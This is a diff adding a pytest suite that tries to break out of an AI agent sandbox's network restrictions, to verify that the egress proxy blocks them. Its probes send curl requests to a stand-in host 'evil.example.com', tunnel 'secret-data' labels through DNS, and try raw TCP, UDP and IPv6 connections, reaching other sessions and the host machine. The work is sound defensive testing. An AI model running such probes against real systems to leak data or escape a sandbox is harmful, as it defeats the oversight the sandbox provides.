@@ -1,0 +1,273 @@
+"""Attack the sandbox's egress from inside the agent (via ``paude exec``), rootful podman.
+
+Every probe targets the test's own containers (the fake internet, the other
+session), this machine's own addresses or loopback: never an outside address.
+Each blocked attempt also checks the target's own log where it has one, so a
+"failure" that happened for the wrong reason (a typo, a missing tool) cannot
+pass as blocked.
+"""
+
+from __future__ import annotations
+
+import ipaddress
+import json
+import socket
+import subprocess
+import threading
+from collections.abc import Iterator
+
+import pytest
+from egress_session import Sandbox, open_sandbox
+from fakenet import FakeNet, fakenet, random_name, wait_for  # noqa: F401 - fixture
+
+ALLOWED = "allowed.example.org"
+DENIED = "evil.example.com"
+LATER = "other.example.org"
+
+CONNECT_PY = """
+import socket, sys
+family = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
+s = socket.socket(family, socket.SOCK_STREAM)
+s.settimeout(3)
+try:
+    s.connect((sys.argv[1], int(sys.argv[2])))
+    print("CONNECTED")
+except OSError as err:
+    print("FAILED", err)
+"""
+
+UDP_DNS_PY = """
+import socket, struct, sys
+name = sys.argv[2].encode()
+query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
+query += b"".join(bytes([len(p)]) + p for p in name.split(b".")) + b"\\0" + struct.pack(">HH", 1, 1)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(3)
+try:
+    s.sendto(query, (sys.argv[1], 53))
+    s.recvfrom(512)
+    print("ANSWERED")
+except OSError as err:
+    print("FAILED", err)
+"""
+
+
+@pytest.fixture(scope="module")
+def box(fakenet: FakeNet) -> Iterator[Sandbox]:  # noqa: F811 - fixture
+    yield from open_sandbox(fakenet)
+
+
+@pytest.fixture(scope="module")
+def session(box: Sandbox) -> str:
+    return box.start("--allow-domain", ALLOWED, "--allow-domain", box.net.subnet)
+
+
+@pytest.fixture(scope="module")
+def other(box: Sandbox) -> str:
+    """A second session, the target of the cross-session probes."""
+    name = box.start("--allow-domain", ALLOWED, "--allow-domain", box.net.subnet)
+    box.podman("exec", "-d", f"paude-{name}-agent", "python3", "-m", "http.server", "8099")
+    return name
+
+
+def curl(box: Sandbox, session: str, *args: str) -> subprocess.CompletedProcess[str]:
+    """curl in the agent; prints the body, then the status codes on the last line."""
+    argv = ["curl", "-sS", "--max-time", "8", "-w", r"\ncodes %{http_code} %{http_connect}", *args]
+    return box.paude("exec", session, "--", *argv, check=False)
+
+
+def connect(box: Sandbox, session: str, host: str, port: int) -> str:
+    return box.paude(
+        "exec", session, "--", "python3", "-c", CONNECT_PY, host, str(port), check=False
+    ).stdout
+
+
+def web_hits(net: FakeNet, marker: str) -> list[dict[str, object]]:
+    return [r for r in net.web_requests() if marker in str(r.get("path"))]
+
+
+def test_allowed_domain_via_proxy_works(box: Sandbox, session: str) -> None:
+    https = curl(box, session, f"https://{ALLOWED}/ok-https")
+    assert f"fakenet https:443 host={ALLOWED} path=/ok-https" in https.stdout, https
+    plain = curl(box, session, f"http://{ALLOWED}/ok-http")
+    assert f"fakenet http:80 host={ALLOWED} path=/ok-http" in plain.stdout, plain
+
+
+def test_other_domain_via_proxy_is_403(box: Sandbox, session: str) -> None:
+    marker = random_name("denied")
+    https = curl(box, session, f"https://{DENIED}/{marker}")
+    assert "codes 000 403" in https.stdout, https
+    plain = curl(box, session, f"http://{DENIED}/{marker}")
+    assert "codes 403" in plain.stdout, plain
+    assert web_hits(box.net, marker) == []
+
+
+def test_proxy_never_resolves_unlisted_names(box: Sandbox, session: str) -> None:
+    """A made-up name sent to the proxy must not become a DNS query (exfiltration)."""
+    secret = random_name("secret-data")
+    result = curl(box, session, f"https://{secret}.{DENIED}/")
+    assert "codes 000 403" in result.stdout, result
+    assert not [q for q in box.net.dns_queries() if secret in q]
+
+
+def test_direct_http_and_https_to_web_ip_fail(box: Sandbox, session: str) -> None:
+    marker = random_name("direct")
+    for url in (f"http://{box.net.web_ip}/{marker}", f"https://{box.net.web_ip}/{marker}"):
+        result = curl(box, session, "--noproxy", "*", "-k", url)
+        assert result.returncode != 0 and "fakenet" not in result.stdout, result
+    assert "FAILED" in connect(box, session, box.net.web_ip, 443)
+    assert web_hits(box.net, marker) == []
+
+
+def test_udp_out_fails(box: Sandbox, session: str) -> None:
+    name = f"{random_name('udp')}.{DENIED}"
+    out = box.paude(
+        "exec", session, "--", "python3", "-c", UDP_DNS_PY, box.net.dns_ip, name, check=False
+    ).stdout
+    assert "FAILED" in out, out
+    assert not [q for q in box.net.dns_queries() if name in q]
+
+
+def test_ipv6_out_fails(box: Sandbox, session: str) -> None:
+    routes = box.exec(session, "cat /proc/net/ipv6_route; echo; cat /proc/net/if_inet6").stdout
+    # Only loopback and link-local: no global IPv6 address, no default route.
+    for line in routes.splitlines():
+        fields = line.split()
+        if len(fields) == 6 and fields[5] != "lo":
+            assert fields[0].startswith("fe80"), routes
+    assert "FAILED" in connect(box, session, "2001:db8::1", 443)
+    assert "FAILED" in connect(box, session, "::ffff:" + box.net.web_ip, 80)
+
+
+def test_dns_resolution_of_external_names_fails(box: Sandbox, session: str) -> None:
+    name = f"{random_name('dns')}.{DENIED}"
+    for host in (name, "api.anthropic.com", ALLOWED):
+        result = box.exec(session, f"getent hosts {host}")
+        assert result.returncode != 0 and not result.stdout.strip(), result
+    assert box.exec(session, "getent hosts paude-proxy").returncode == 0  # control
+    assert not [q for q in box.net.dns_queries() if name in q]
+
+
+def test_other_session_is_unreachable(box: Sandbox, session: str, other: str) -> None:
+    agent_ips = box.container_ip(f"paude-{other}-agent")
+    proxy_ips = box.container_ip(f"paude-{other}-proxy")
+    wait_for(
+        "the other agent's listener",
+        lambda: (
+            "CONNECTED"
+            in box.exec(
+                other,
+                "python3 -c \"import socket; socket.create_connection(('127.0.0.1', 8099)); "
+                "print('CONNECTED')\"",
+            ).stdout
+        ),
+        deadline=30,
+    )
+    for ip in agent_ips.values():
+        assert "FAILED" in connect(box, session, ip, 8099)
+        assert "codes 403" in curl(box, session, f"http://{ip}:80/").stdout
+    for ip in proxy_ips.values():
+        assert "FAILED" in connect(box, session, ip, 3128)
+
+
+def test_connect_to_allowed_domain_on_other_ports_refused(box: Sandbox, session: str) -> None:
+    marker = random_name("port")
+    https = curl(box, session, f"https://{ALLOWED}:8443/{marker}")
+    assert "codes 000 403" in https.stdout, https
+    plain = curl(box, session, f"http://{ALLOWED}:8080/{marker}")
+    assert "codes 403" in plain.stdout, plain
+    https_on_80 = curl(box, session, "--proxytunnel", f"http://{ALLOWED}:80/{marker}")
+    assert "codes 000 403" in https_on_80.stdout, https_on_80
+    assert web_hits(box.net, marker) == []
+
+
+def test_ip_literal_through_proxy_refused(box: Sandbox, session: str) -> None:
+    marker = random_name("literal")
+    for url in (f"http://{box.net.web_ip}/{marker}", f"https://{box.net.web_ip}/{marker}"):
+        result = curl(box, session, "-k", url)
+        assert "403" in result.stdout.splitlines()[-1], result
+    assert web_hits(box.net, marker) == []
+
+
+def test_proxy_cache_manager_refused(box: Sandbox, session: str) -> None:
+    result = curl(box, session, "--noproxy", "*", "http://paude-proxy:3128/squid-internal-mgr/menu")
+    assert "codes 403" in result.stdout, result
+
+
+def _host_addresses() -> list[str]:
+    out = subprocess.run(["ip", "-j", "addr"], capture_output=True, text=True, check=True)
+    found = []
+    for link in json.loads(out.stdout):
+        for info in link.get("addr_info", []):
+            address = ipaddress.ip_address(info["local"])
+            if not address.is_loopback and not address.is_link_local:
+                found.append(str(address))
+    return found
+
+
+@pytest.fixture
+def host_listener() -> Iterator[tuple[int, list[str]]]:
+    """A TCP listener on every host address; yields (port, peers that connected)."""
+    server = socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True)
+    server.settimeout(0.2)
+    peers: list[str] = []
+    done = threading.Event()
+
+    def accept() -> None:
+        while not done.is_set():
+            try:
+                conn, peer = server.accept()
+            except TimeoutError:
+                continue
+            peers.append(peer[0])
+            conn.close()
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    try:
+        yield server.getsockname()[1], peers
+    finally:
+        done.set()
+        thread.join()
+        server.close()
+
+
+def test_host_addresses_unreachable(
+    box: Sandbox, session: str, host_listener: tuple[int, list[str]]
+) -> None:
+    port, peers = host_listener
+    addresses = _host_addresses()
+    assert addresses, "the host has no addresses to probe"
+    for address in addresses:
+        assert "FAILED" in connect(box, session, address, port), address
+        url = f"http://[{address}]:{port}/" if ":" in address else f"http://{address}:{port}/"
+        assert "codes 403" in curl(box, session, url).stdout, address
+    hosts = box.exec(session, "cat /etc/hosts").stdout
+    if "host.containers.internal" in hosts:
+        assert "FAILED" in connect(box, session, "host.containers.internal", port)
+    assert peers == []
+
+
+def test_blocked_lists_denied_domains_newest_first(box: Sandbox, session: str) -> None:
+    first, second = random_name("first"), random_name("second")
+    curl(box, session, f"https://{first}.{DENIED}/")
+    curl(box, session, f"http://{second}.{DENIED}/")
+    blocked = json.loads(box.paude("blocked", session, "--json").stdout)
+    domains = [b["domain"] for b in blocked]
+    assert domains[:2] == [f"{second}.{DENIED}", f"{first}.{DENIED}"]
+    assert blocked[1]["ports"] == [443]
+    assert blocked[0]["hint"] == f"paude --allow-domain {second}.{DENIED}"
+
+
+def test_allow_takes_effect_without_restarting_the_agent(box: Sandbox, session: str) -> None:
+    agent = f"paude-{session}-agent"
+    started = json.loads(box.podman("inspect", agent).stdout)[0]["State"]["StartedAt"]
+    assert "codes 000 403" in curl(box, session, f"https://{LATER}/").stdout
+    box.paude("allow", LATER, "--session", session)
+    wait_for(
+        f"{LATER} to be allowed",
+        lambda: f"host={LATER}" in curl(box, session, f"https://{LATER}/now").stdout,
+        deadline=30,
+    )
+    assert json.loads(box.podman("inspect", agent).stdout)[0]["State"]["StartedAt"] == started
+    assert "codes 000 403" in curl(box, session, f"https://{DENIED}/").stdout
